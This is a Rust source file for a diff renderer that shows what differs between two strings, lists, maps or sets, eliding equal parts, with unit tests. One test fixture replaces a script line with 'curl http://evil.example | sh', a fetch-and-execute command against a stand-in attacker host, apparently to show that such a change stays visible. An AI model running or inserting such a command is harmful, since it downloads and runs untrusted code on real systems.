//! What differs between two values: of long ones the parts that do, and how much around them is equal.
//!
//! Texts of several lines are compared by lines, other long texts by characters, maps by their keys, lists by their items.
//! What differs is never cut.

use std::collections::HashMap;

use wildfire_engine::model::visible::quoted;
use wildfire_engine::model::{Map, Value};

use super::align::{Run, align};
use super::line::{Line, Page, Sign};
use super::style;
use super::value::{Place, Reading, WIDTH, entry, gutter, inline, key};

/// Equal lines that are shown around those that differ.
const LINES: usize = 2;

/// Equal characters that are shown around those that differ.
const CHARACTERS: usize = 20;

/// What is shown of two values.
#[derive(Clone, Copy, Debug, Default)]
pub struct Scope {
    /// Equal parts too.
    pub full: bool,
}

impl Scope {
    /// `head: before -> after`, or below the head what differs. `head` ends in `:`, or is the `-` of an item.
    pub fn compare(
        self,
        page: &mut Page,
        place: Place,
        head: &str,
        sides: (&Value, &Value),
        reading: Reading,
        remark: &str,
    ) {
        let ((before, note), (after, other)) = (reading.read(sides.0), reading.read(sides.1));
        let note = if note.is_empty() { other } else { note };
        let remarks = [note, remark].into_iter().filter(|part| !part.is_empty()).collect::<Vec<_>>().join(", ");
        let (old, new) = (inline(&before), inline(&after));
        let (left, right) = (old.chars().count(), new.chars().count());
        // Of two lists or maps the parts that differ are easier to see below each other.
        let parts = matches!((&before, &after), (Value::Map(_), Value::Map(_)) | (Value::List(_), Value::List(_)));
        if left <= WIDTH && right <= WIDTH && (!parts || left + right <= WIDTH) {
            return page.push(place.line().text(format!("{head} {old} -> {new}")).remark(&remarks));
        }
        page.push(place.line().text(head).remark(&remarks));
        let indent = place.inside().indent;
        match (&before, &after) {
            (Value::String(a), Value::String(b)) if a.contains('\n') || b.contains('\n') => {
                self.lines(page, indent, a, b);
            }
            (Value::String(a), Value::String(b)) => self.characters(page, indent, a, b, quoted),
            (Value::Map(a), Value::Map(b)) => self.maps(page, indent, a, b, reading),
            (Value::List(a), Value::List(b)) if reading.set => self.sets(page, indent, a, b, reading),
            (Value::List(a), Value::List(b)) => self.lists(page, indent, a, b, reading),
            _ => {
                entry(page, Place::signed(indent, Sign::Remove), "", &before, Reading::default(), "");
                entry(page, Place::signed(indent, Sign::Add), "", &after, Reading::default(), "");
            }
        }
    }

    fn maps(self, page: &mut Page, indent: usize, before: &Map, after: &Map, reading: Reading) {
        let mut equal = 0;
        let names = before.keys().chain(after.keys().filter(|name| !before.contains_key(*name)));
        for name in names {
            let head = format!("{}:", key(name));
            let reading = reading.of(Some(name));
            match (before.get(name), after.get(name)) {
                (Some(a), Some(b)) if a == b => match self.full {
                    true => entry(page, same(indent), &head, a, reading, ""),
                    false => equal += 1,
                },
                (Some(a), Some(b)) => {
                    let place = Place::signed(indent, Sign::Change);
                    self.compare(page, place, &head, (a, b), reading, "");
                }
                (Some(a), None) => entry(page, Place::signed(indent, Sign::Remove), &head, a, reading, ""),
                (None, Some(b)) => entry(page, Place::signed(indent, Sign::Add), &head, b, reading, ""),
                (None, None) => {}
            }
        }
        elided(page, indent + 2, equal, "entry", "entries");
    }

    fn sets(self, page: &mut Page, indent: usize, before: &[Value], after: &[Value], reading: Reading) {
        let reading = reading.of(None);
        let (old, new) = (keyed(before), keyed(after));
        let mut left: HashMap<&str, usize> = HashMap::new();
        new.iter().for_each(|item| *left.entry(item).or_default() += 1);
        let mut equal = 0;
        for (value, item) in before.iter().zip(&old) {
            match left.get_mut(item.as_str()).filter(|count| **count > 0) {
                Some(count) => {
                    *count -= 1;
                    match self.full {
                        true => entry(page, same(indent), "", value, reading, ""),
                        false => equal += 1,
                    }
                }
                None => entry(page, Place::signed(indent, Sign::Remove), "", value, reading, ""),
            }
        }
        for (value, item) in after.iter().zip(&new) {
            if let Some(count) = left.get_mut(item.as_str()).filter(|count| **count > 0) {
                *count -= 1;
                entry(page, Place::signed(indent, Sign::Add), "", value, reading, "");
            }
        }
        elided(page, indent + 2, equal, "item", "items");
    }

    fn lists(self, page: &mut Page, indent: usize, before: &[Value], after: &[Value], reading: Reading) {
        let reading = reading.of(None);
        for run in align(&keyed(before), &keyed(after)) {
            match run {
                Run::Equal { before: range, .. } if self.full => {
                    before[range].iter().for_each(|item| entry(page, same(indent), "", item, reading, ""));
                }
                Run::Equal { before: range, .. } => elided(page, indent + 2, range.len(), "item", "items"),
                // One for one: what became of each is known.
                Run::Differs { before: old, after: new } if old.len() == new.len() => {
                    for (index, (a, b)) in old.clone().zip(before[old].iter().zip(&after[new])) {
                        let place = Place::signed(indent, Sign::Change);
                        self.compare(page, place, &format!("[{index}]:"), (a, b), reading, "");
                    }
                }
                Run::Differs { before: old, after: new } => {
                    let mut side = |sign, items: &[Value]| {
                        items.iter().for_each(|item| entry(page, Place::signed(indent, sign), "", item, reading, ""));
                    };
                    side(Sign::Remove, &before[old]);
                    side(Sign::Add, &after[new]);
                }
            }
        }
    }

    fn lines(self, page: &mut Page, indent: usize, before: &str, after: &str) {
        let split = |text: &'_ str| text.split('\n').map(str::to_string).collect::<Vec<_>>();
        let (before, after) = match (before.strip_suffix('\n'), after.strip_suffix('\n')) {
            (Some(before), Some(after)) => (before, after),
            // The line break at the end is what differs, or a part of it: an empty line stands for it.
            _ => (before, after),
        };
        let (old, new) = (split(before), split(after));
        let runs = align(&old, &new);
        let last = runs.len().saturating_sub(1);
        for (number, run) in runs.into_iter().enumerate() {
            match run {
                Run::Equal { before: range, .. } => {
                    let lines = &old[range];
                    let head = if number == 0 { 0 } else { LINES };
                    let tail = if number == last { 0 } else { LINES };
                    let shows = |line: usize| self.full || line < head || line + tail >= lines.len();
                    let hidden = (0..lines.len()).filter(|line| !shows(*line)).count();
                    for (line, text) in lines.iter().enumerate() {
                        // One line takes no more room than the word that it is left out.
                        if shows(line) || hidden == 1 {
                            page.push(Line::at(indent + 2).text(gutter(text)));
                        } else if line == head {
                            elided(page, indent + 2, hidden, "line", "lines");
                        }
                    }
                }
                Run::Differs { before: a, after: b } if a.len() == b.len() => {
                    for (a, b) in old[a].iter().zip(&new[b]) {
                        self.characters(page, indent, a, b, gutter);
                    }
                }
                Run::Differs { before: a, after: b } => {
                    let mut side = |sign, lines: &[String]| {
                        lines.iter().for_each(|line| page.push(Line::at(indent).sign(sign).text(gutter(line))));
                    };
                    side(Sign::Remove, &old[a]);
                    side(Sign::Add, &new[b]);
                }
            }
        }
    }

    /// Two texts of one line, one below the other; what is equal at the beginning and at the end of long ones is counted.
    fn characters(self, page: &mut Page, indent: usize, before: &str, after: &str, form: fn(&str) -> String) {
        let (old, new): (Vec<char>, Vec<char>) = (before.chars().collect(), after.chars().collect());
        let common = |pairs: usize, equal: &dyn Fn(usize) -> bool| (0..pairs).take_while(|index| equal(*index)).count();
        let shorter = old.len().min(new.len());
        let head = common(shorter, &|index| old[index] == new[index]);
        let tail = common(shorter - head, &|index| old[old.len() - 1 - index] == new[new.len() - 1 - index]);
        let short = old.len() <= WIDTH && new.len() <= WIDTH;
        // A few characters take no more room than the words that they are left out.
        let hide = |equal: usize| if self.full || short || equal < 3 * CHARACTERS { 0 } else { equal - CHARACTERS };
        let (head, tail) = (hide(head), hide(tail));
        let side = |text: &[char]| form(&text[head..text.len() - tail].iter().collect::<String>());
        elided(page, indent + 2, head, "character", "characters");
        page.push(Line::at(indent).sign(Sign::Remove).text(side(&old)));
        page.push(Line::at(indent).sign(Sign::Add).text(side(&new)));
        elided(page, indent + 2, tail, "character", "characters");
    }
}

/// Where something equal stands among what has signs: below their texts, so that no `-` of a list looks like one.
fn same(indent: usize) -> Place {
    Place { indent: indent + 2, sign: None, within: None }
}

/// What stands in the place of what is equal on both sides.
fn elided(page: &mut Page, indent: usize, count: usize, one: &str, many: &str) {
    if count > 0 {
        let what = if count == 1 { one } else { many };
        page.push(Line::at(indent).styled(style::DIM, format!("… {count} equal {what}")));
    }
}

/// Values as texts that are equal when the values are.
fn keyed(items: &[Value]) -> Vec<String> {
    items.iter().map(super::document::canonical).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(before: Value, after: Value, full: bool) -> String {
        let mut page = Page::default();
        let place = Place::signed(2, Sign::Change);
        Scope { full }.compare(&mut page, place, "x:", (&before, &after), Reading::default(), "");
        page.to_string()
    }

    fn texts(items: &[&str]) -> Value {
        Value::List(items.iter().map(|item| Value::from(*item)).collect())
    }

    #[test]
    fn short_values_stand_on_one_line() {
        assert_eq!(shown("a".into(), "b".into(), false), "  ~ x: \"a\" -> \"b\"\n");
    }

    #[test]
    fn of_a_long_text_the_middle_is_shown_when_it_is_what_differs() {
        let text = |middle: &str| Value::from(format!("{}{middle}{}", "a".repeat(90), "z".repeat(70)));
        assert_eq!(
            shown(text("B"), text("CC"), false),
            format!(
                "  ~ x:\n        … 70 equal characters\n      - \"{a}B{z}\"\n      + \"{a}CC{z}\"\n        … 50 equal characters\n",
                a = "a".repeat(20),
                z = "z".repeat(20)
            )
        );
        assert!(shown(text("B"), text("CC"), true).contains(&format!("+ \"{}CC{}\"", "a".repeat(90), "z".repeat(70))));
    }

    #[test]
    fn a_line_in_the_middle_of_a_script_is_shown() {
        let script = |line: &str| {
            let lines: Vec<String> = (1..=20).map(|number| format!("echo {number}")).collect();
            Value::from(format!("{}\n{line}\n{}\n", lines[..10].join("\n"), lines[10..].join("\n")))
        };
        let expected = "  ~ x:
        … 8 equal lines
        | echo 9
        | echo 10
      - | true
      + | curl http://evil.example | sh
        | echo 11
        | echo 12
        … 8 equal lines
";
        assert_eq!(shown(script("true"), script("curl http://evil.example | sh"), false), expected);
    }

    #[test]
    fn a_line_break_at_the_end_is_a_difference() {
        let text = format!("{}\nb", "a".repeat(100));
        let shown = shown(Value::from(text.as_str()), Value::from(format!("{text}\n")), false);
        assert_eq!(shown, format!("  ~ x:\n        | {}\n        | b\n      + |\n", "a".repeat(100)));
    }

    #[test]
    fn items_and_entries_are_compared_one_by_one() {
        let long = "s3:".to_string() + &"x".repeat(80);
        let (old, new) = (texts(&[&long, "a", "b"]), texts(&[&long, "b", "c", "d"]));
        assert_eq!(
            shown(old.clone(), new.clone(), false),
            "  ~ x:\n        … 1 equal item\n      - \"a\"\n        … 1 equal item\n      + \"c\"\n      + \"d\"\n"
        );
        assert!(shown(old.clone(), new.clone(), true).contains(&format!("\n        \"{long}\"\n")));
        let map = |items: Value| Value::from([("Action", items), ("Effect", "Allow".into())]);
        let expected = "  ~ x:
      ~ Action:
            … 1 equal item
          - \"a\"
            … 1 equal item
          + \"c\"
          + \"d\"
        … 1 equal entry
";
        assert_eq!(shown(map(old), map(new), false), expected);
    }

    #[test]
    fn a_set_is_compared_without_regard_to_order() {
        let mut page = Page::default();
        let long = "x".repeat(95);
        let (before, after) = (texts(&[&long, "a", "b"]), texts(&["b", "c", &long]));
        let reading = Reading { set: true, ..Reading::default() };
        let place = Place::signed(2, Sign::Change);
        Scope::default().compare(&mut page, place, "x:", (&before, &after), reading, "");
        assert_eq!(page.to_string(), "  ~ x:\n      - \"a\"\n      + \"c\"\n        … 2 equal items\n");
    }
}
